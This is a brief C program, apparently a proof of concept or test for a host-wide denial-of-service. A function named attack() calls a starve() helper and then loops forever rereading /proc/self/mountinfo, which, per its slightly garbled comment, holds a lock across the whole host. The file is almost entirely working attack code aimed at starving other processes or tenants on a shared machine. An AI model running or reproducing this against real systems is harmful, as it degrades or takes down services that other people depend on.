#include "hostile.h"

/* Whoever reads this file has a lock of the whole host's meanwhile, and may be granted it while it waits for a CPU. */
static void read_mounts(void) {
    static char text[1 << 16];
    int file = open("/proc/self/mountinfo", O_RDONLY);
    while (read(file, text, sizeof text) > 0) {}
    close(file);
}

int attack(void) {
    starve();
    for (;;) read_mounts();
}
